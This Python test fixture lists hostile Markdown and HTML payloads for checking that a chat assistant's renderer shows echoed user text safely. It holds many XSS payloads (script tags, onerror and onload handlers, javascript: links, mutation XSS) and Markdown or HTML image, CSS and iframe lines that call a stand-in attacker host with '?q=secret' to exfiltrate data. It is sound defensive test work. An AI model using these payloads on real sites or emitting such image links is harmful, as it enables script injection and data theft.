"""Hostile Markdown and HTML, as an attacker would send it for the assistant to say back:
the browser suite (tests/test_browser.py) and the renderer's tests use the same payloads."""

from __future__ import annotations

from dataclasses import dataclass

PWN = "pwned=1;alert(1)"  # what each script payload would do: set a global, open a dialog
LEAK = "http://evil.example"  # a foreign host; the browser must never ask it for anything


@dataclass(frozen=True)
class Payload:
    """A message ``text`` sent by a user and echoed by the assistant, and ``shown``: what the
    assistant's rendered Markdown must still show of it (the user's copy shows it all)."""

    name: str
    text: str
    shown: str


def hostile_payloads(evil: str) -> list[Payload]:
    """Payloads that run script, leave the page or fetch from another host (``evil``, a
    loopback server of the test's, or ``evil.example``) if rendered as HTML."""

    def raw(name: str, text: str) -> Payload:  # raw HTML: the assistant shows it as text
        return Payload(name, text, text)

    return [
        raw("script tag", f"<script>{PWN}</script>"),
        raw("img onerror", f"<img src=x onerror={PWN}>"),
        raw("svg onload", f"<svg onload={PWN}>"),
        raw("svg image", f'<svg><image href="{evil}/svg-image"/></svg>'),
        raw("event handler", f'<div onmouseover="{PWN}">hover me</div>'),
        raw("details ontoggle", f"<details open ontoggle={PWN}>"),
        raw("autofocus onfocus", f"<input autofocus onfocus={PWN}>"),
        raw("body onload", f"<body onload={PWN}>"),
        raw("attribute breakout", f'"><script>{PWN}</script>'),
        raw("mutation XSS", f"<math><mtext><table><mglyph><style><img src=x onerror={PWN}>"),
        raw("noscript breakout", f'<noscript><p title="</noscript><img src=x onerror={PWN}>">'),
        raw("html javascript link", f'<a href="javascript:{PWN}">click</a>'),
        raw("iframe", f'<iframe src="{evil}/iframe"></iframe>'),
        raw("iframe srcdoc", f'<iframe srcdoc="<script>parent.{PWN}</script>"></iframe>'),
        raw("meta refresh", f'<meta http-equiv="refresh" content="0;url={evil}/refresh">'),
        raw("base href", f'<base href="{evil}/">'),
        raw("link stylesheet", f'<link rel="stylesheet" href="{evil}/link.css">'),
        raw("style import", f'<style>@import url("{evil}/import.css");</style>'),
        raw("css url()", f'<div style="background:url({evil}/css-url?q=secret)">x</div>'),
        raw(
            "object and embed", f'<object data="{evil}/object"></object><embed src="{evil}/embed">'
        ),
        raw("raw img", f'<img src="{evil}/raw-image?q=secret">'),
        raw("raw img, foreign host", f'<img src="{LEAK}/raw-image?q=secret">'),
        raw("picture srcset", f'<picture><source srcset="{evil}/srcset"><img alt=x></picture>'),
        raw("video poster", f'<video poster="{evil}/poster" src="{evil}/video" autoplay></video>'),
        raw("form", f'<form action="{evil}/form"><button formaction="javascript:{PWN}">go'),
        raw("md javascript link", f"[click me](javascript:{PWN})"),
        raw("md javascript link, mixed case", f"[click me](JaVaScRiPt:{PWN})"),
        raw("md javascript link, angle brackets", f"[click me](<javascript:{PWN}>)"),
        Payload(
            "md javascript link, entity",
            f"[click me](javascript&#58;{PWN})",
            f"[click me](javascript:{PWN})",
        ),
        raw(
            "md data link", "[click me](data:text/html;base64,PHNjcmlwdD5hbGVydCgxKTwvc2NyaXB0Pg==)"
        ),
        raw("javascript autolink", f"<javascript:{PWN}>"),
        raw(
            "md svg data image",
            "![vector](data:image/svg+xml;base64,PHN2ZyB4bWxucz0iaHR0cDovL3d3dy53My5vcmcvMjAw"
            "MC9zdmciIG9ubG9hZD0iYWxlcnQoMSkiLz4=)",
        ),
        Payload(
            "md image, foreign host", f"![secret chart]({LEAK}/leak.png?q=secret)", "secret chart"
        ),
        Payload("md image", f"![secret chart]({evil}/md-image?q=secret)", "secret chart"),
        Payload(
            "md reference image",
            f"![secret chart][chart]\n\n[chart]: {evil}/ref-image?q=secret",
            "secret chart",
        ),
        Payload(
            "md shortcut reference image",
            f"![chart]\n\n[chart]: {LEAK}/shortcut.png?q=secret",
            "chart",
        ),
        Payload(
            "md image without alt",
            f"![]({evil}/no-alt.png?q=secret)",
            f"{evil}/no-alt.png?q=secret",
        ),
        Payload(
            "md image in a link",
            f"[![secret chart]({evil}/nested.png?q=secret)]({evil}/nested)",
            "secret chart",
        ),
        Payload(
            "md data image",
            "![pixel](data:image/png;base64,iVBORw0KGgoAAAANSUhEUgAAAAEAAAABCAYAAAAfFcSJAAAADUlEQVR4"
            "2mNkYPhfDwAChwGA60e6kgAAAABJRU5ErkJggg==)",
            "pixel",
        ),
        Payload("autolink", f"<{evil}/autolink?q=secret>", f"{evil}/autolink?q=secret"),
        Payload(
            "md link, title breakout", f'[titled]({evil}/t "\\" onmouseover=\\"{PWN}")', "titled"
        ),
        Payload("md link, href breakout", f'[quoted]({evil}/"onmouseover="{PWN})', "quoted"),
        Payload("md protocol-relative link", "[docs](//evil.example/?q=secret)", "docs"),
        Payload("code fence", f"```html\n<script>{PWN}</script>\n```", f"<script>{PWN}</script>"),
        Payload(
            "table cell",
            f"| a |\n| --- |\n| <img src=x onerror={PWN}> |",
            f"<img src=x onerror={PWN}>",
        ),
        Payload("heading", f"# <script>{PWN}</script>", f"<script>{PWN}</script>"),
    ]
